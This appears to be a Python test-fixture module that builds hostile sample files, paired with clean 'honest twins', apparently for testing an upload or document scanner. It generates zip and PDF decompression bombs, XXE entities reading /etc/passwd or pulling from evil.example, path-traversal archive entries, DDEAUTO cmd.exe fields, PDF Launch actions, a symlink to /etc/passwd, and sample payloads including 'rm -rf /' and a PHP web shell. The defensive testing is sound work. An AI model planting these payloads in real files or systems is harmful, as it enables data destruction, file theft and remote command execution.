"""Files made to harm whoever opens them, generated here: nothing of the kind is stored."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING

from PIL import Image
from xlsxwriter import Workbook

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator, Mapping

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
KINDS = (("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml"))
NOISE = b"".join(hashlib.sha256(bytes([number])).digest() for number in range(125))
MACROS = (
    "xl/vbaProject.bin",
    "word/vbaProject.bin",
    "xl/macrosheets/sheet1.xml",
    "word/activeX/activeX1.xml",
    "customUI/customUI.xml",
    "WORD/VBAPROJECT.BIN",
)
PDF_ACTS = (
    "<</S/JavaScript/JS(app.alert(1))>>",
    "<</OpenAction<</S/JavaScript/JS 5 0 R>>>>",
    "<</S/Launch/F(cmd.exe)>>",
    "<</Type/EmbeddedFile>>",
    "<</Names<</EmbeddedFiles 7 0 R>>>>",
    "<</Subtype/RichMedia>>",
    "<</AcroForm<</XFA[(a) 5 0 R]>>>>",
    "<</S/SubmitForm/F(http://x)>>",
    "<</S/ImportData/F(x)>>",
    "<</S/GoToE/F(x)>>",
)


def archive(parts: Mapping[str, bytes | str], *, packed: bool = True) -> bytes:
    """Return a zip archive."""
    out = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", method) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def office(
    main: str,
    more: Mapping[str, bytes | str] | None = None,
    *,
    body: bytes | str = "<x>正文</x>",
) -> bytes:
    """Return an office file of its least parts, and more."""
    return archive({"[Content_Types].xml": TYPES, main: body, **(more or {})})


def pdf(*objects: str, packed: bytes = b"") -> bytes:
    """Return a PDF of one page and these objects."""
    body = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>", *objects]
    out = b"%PDF-1.7\n"
    for number, text in enumerate(body, start=1):
        out += f"{number} 0 obj\n{text}\nendobj\n".encode()
    if packed:
        out += b"9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n"
        out += packed + b"\nendstream\nendobj\n"
    return out + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def picture(kind: str) -> bytes:
    """Return an honest picture."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, kind)
    return out.getvalue()


def _link(kind: str, target: str) -> str:
    type_ = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationship Id="a" Type="{type_}" Target="{target}" TargetMode="External"/>'


def clean() -> Iterator[tuple[str, str, bytes]]:
    """Give the honest twins: what must still be taken."""
    yield "honest pdf", "a.pdf", pdf("<</S/URI/URI(https://example.org)>>")
    yield "honest packed objects", "a.pdf", pdf(packed=zlib.compress(b"1 0 <</Title(x)>>"))
    yield "honest png", "a.png", picture("PNG")
    yield "honest jpg", "a.jpg", picture("JPEG")
    for kind, main in KINDS:
        link = _link("hyperlink", "https://example.org/")
        yield f"honest {kind}", f"a.{kind}", office(main)
        yield (
            f"{kind} with a link",
            f"a.{kind}",
            office(main, {"word/_rels/a.rels": RELS.format(link)}),
        )
        yield (
            f"{kind} with a chart",
            f"a.{kind}",
            office(main, {"word/embeddings/sheet.xlsx": office("xl/workbook.xml")}),
        )
    book = io.BytesIO()
    with Workbook(book) as made:
        sheet = made.add_worksheet("人员")
        sheet.write_row(0, 0, ["姓名", "=1+1", -3])
        sheet.insert_image("B2", "a.png", {"image_data": io.BytesIO(picture("PNG"))})
    yield "a workbook as programs write it", "a.xlsx", book.getvalue()


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """Give every hostile file: what it is, its name, its bytes."""
    yield from _strangers()
    for kind, main in KINDS:
        for what, data in _offices(kind, main):
            yield f"{kind}: {what}", f"a.{kind}", data
    for what, data in _pdfs():
        yield f"pdf: {what}", "a.pdf", data
    yield from _pictures()


def _strangers() -> Iterator[tuple[str, str, bytes]]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    contents = {
        "svg": svg,
        "html": b"<html><script>alert(1)</script></html>",
        "program": b"MZ" + bytes(64),
        "elf": b"\x7fELF" + bytes(64),
        "script": b"#!/bin/sh\nrm -rf /\n",
        "php": b"<?php system($_GET[0]);",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "gif": b"GIF89a" + bytes(16),
        "rar": b"Rar!\x1a\x07\x01\x00",
        "plain zip": archive({"a.txt": "x"}),
        "zip of zips": archive({"a.zip": archive({"b.zip": archive({"c": "x"})})}),
        "cut zip": archive({"word/document.xml": "<x/>"})[:40],
        "empty zip": archive({}),
    }
    for what, data in contents.items():
        for ending in ("pdf", "docx", "xlsx", "png", "jpg", what.split()[0]):
            yield f"{what} as {ending}", f"a.{ending}", data
    for wrong in (
        "a.exe",
        "a.pdf.exe",
        "a.html",
        "a.svg",
        "a.docx",
        "a\u202efdp.exe",
        "a",
        "a.pdf\x00.exe",
    ):
        yield f"a pdf called {wrong!r}", wrong, pdf()


def _offices(kind: str, main: str) -> Iterator[tuple[str, bytes]]:
    zeros = bytes(8 << 20)
    yield "flat bomb", office(main, {"word/media/a.bin": zeros})
    yield "bomb in xml", office(main, body=f"<x>{' ' * (8 << 20)}</x>")
    yield "bomb of many parts", office(main, {f"m/{n}.bin": bytes(1 << 18) for n in range(40)})
    yield (
        "nested bomb",
        office(main, {"embeddings/a.xlsx": office("xl/workbook.xml", {"b": zeros})}),
    )
    inner = office("xl/workbook.xml", {"c.xlsx": office("xl/workbook.xml")})
    yield "archive in archive in archive", office(main, {"embeddings/a.xlsx": inner})
    yield (
        "overlapping parts",
        _overlapping(office(main, {"b.bin": NOISE[:999]})),
    )
    yield "too many parts", office(main, {f"m/{n}": "" for n in range(2_001)})
    yield "lying about its size", _lying(office(main, {"z.bin": bytes(5_000)}))
    yield "unknown packing", _patched(office(main), method=99)
    yield "encrypted parts", _patched(office(main), flags=1)
    for what, text in _entities():
        yield what, office(main, body=text)
        yield f"{what} in its links", office(main, {"word/_rels/document.xml.rels": text})
    for name in _paths():
        yield f"part called {name!r}", office(main, {name: "x"})
    yield from _insides(main)
    yield "broken xml", office(main, body="<x>")
    yield "broken part", _bent(office(main, {"z.bin": NOISE}))
    yield f"{kind} with a link out of the archive", _linked(main)


def _insides(main: str) -> Iterator[tuple[str, bytes]]:
    """Give what acts from inside a document that is otherwise in order."""
    for name in MACROS:
        yield f"macro {name}", office(main, {name: "x"})
    macro = TYPES.replace(
        "/>", '><Override ContentType="application/vnd.ms-word.macroEnabled"/></Types>'
    )
    yield "macro by type", office(main, {"[Content_Types].xml": macro})
    inside = {
        "program": b"MZ\x90",
        "elf": b"\x7fELF",
        "old office": b"\xd0\xcf\x11\xe0x",
        "zip": archive({"a": "b"}),
        "another document": office("word/document.xml"),
    }
    for what, data in inside.items():
        yield f"embedded {what}", office(main, {"word/embeddings/oleObject1.bin": data})
    for kind_of_link in (
        "attachedTemplate",
        "oleObject",
        "image",
        "frame",
        "subDocument",
        "mailMergeSource",
    ):
        for target in ("https://evil.example/a", "file:///etc/passwd", "\\\\evil\\share"):
            one = _link(kind_of_link, target)
            yield (
                f"{kind_of_link} from {target}",
                office(main, {"word/_rels/a.xml.rels": RELS.format(one)}),
            )
    for code in ("DDEAUTO c:\\\\cmd.exe", "DDE cmd", "ddeauto x"):
        yield f"field {code}", office(main, {"word/f.xml": _field(code)})
        yield f"field {code} in pieces", office(main, {"word/f.xml": _field(code[:1], code[1:])})
    yield (
        "dde link",
        office(main, {"xl/externalLinks/a.xml": '<x:ddeLink xmlns:x="x" ddeService="cmd"/>'}),
    )


def _field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p xmlns:w="w">{runs}</w:p>'


def _entities() -> Iterable[tuple[str, bytes | str]]:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><x>&b;</x>'
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    return (
        ("entities", bomb),
        ("outside entity", outside),
        ("parameter entity", '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/">%a;]><x/>'),
        ("outside dtd", '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'),
        ("wide entities", ('<?xml version="1.0" encoding="UTF-16"?>' + bomb).encode("utf-16")),
        ("wide and silent", "<x/>".encode("utf-16-le")),
        ("odd letters", b'<?xml version="1.0" encoding="ISO-8859-1"?><x/>'),
    )


def _paths() -> tuple[str, ...]:
    return (
        "../../etc/cron.d/x", "/etc/passwd", "word/../../x", "C:/x", "a\\..\\x", "x\r\ny", "..",
    )  # fmt: skip


def _pdfs() -> Iterator[tuple[str, bytes]]:
    for act in PDF_ACTS:
        yield act, pdf(act)
        yield (
            f"{act} in digits",
            pdf(act.replace("/J", "/#4A").replace("a", "#61") if "#" not in act else act),
        )
        yield f"{act} packed", pdf(packed=zlib.compress(b"5 0 " + act.encode()))
    yield "packed bomb", pdf(packed=zlib.compress(bytes(70 << 20), 9))
    yield "packed and torn", pdf(packed=b"not packed at all")
    yield "with password", pdf() + b"trailer <</Encrypt 8 0 R>>\n%%EOF"
    yield "and zip", pdf() + archive({"a": "b"})
    yield "and another pdf", b"%PDF-1.4\n%" + pdf()


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    for width, height in (
        (65_000, 65_000),
        (2**31 - 1, 2**31 - 1),
        (200_000, 1),
        (1, 200_000),
        (11_000, 11_000),
    ):
        head = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
        yield (
            f"png of {width} × {height}",
            "a.png",
            (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + bytes(4)),
        )
    for edge in (65_000, 40_000, 12_000):
        frame = struct.pack(">BHHB", 8, edge, edge, 3) + bytes(9)
        yield f"jpg of {edge} × {edge}", "a.jpg", (
            b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + bytes(14)
            + b"\xff\xc2" + struct.pack(">H", len(frame) + 2) + frame
        )  # fmt: skip
    for kind, name in (("PNG", "a.png"), ("JPEG", "a.jpg")):
        yield f"{kind} and zip", name, picture(kind) + archive({"a": "b"})
        yield f"{kind} and pdf", name, picture(kind)[:30] + pdf()


def _patched(data: bytes, *, method: int = 0, flags: int = 0) -> bytes:
    """Change what both headers of the first part say."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.index(mark) + at
        if flags:
            struct.pack_into("<H", out, place, flags)
        if method:
            struct.pack_into("<H", out, place + 2, method)
    return bytes(out)


def _lying(data: bytes) -> bytes:
    out = bytearray(data)
    struct.pack_into("<I", out, data.rindex(b"PK\x01\x02") + 24, 10)
    return bytes(out)


def _overlapping(data: bytes) -> bytes:
    """Let the last entry of the list point at the bytes of the one before."""
    first, last = data.index(b"PK\x01\x02"), data.rindex(b"PK\x01\x02")
    out = bytearray(data)
    out[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(out)


def _bent(data: bytes) -> bytes:
    out = bytearray(data)
    out[data.index(b"z.bin") + 100] ^= 0xFF
    return bytes(out)


def _linked(main: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("[Content_Types].xml", TYPES)
        file.writestr(main, "<x/>")
        link = zipfile.ZipInfo("word/media/a")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()
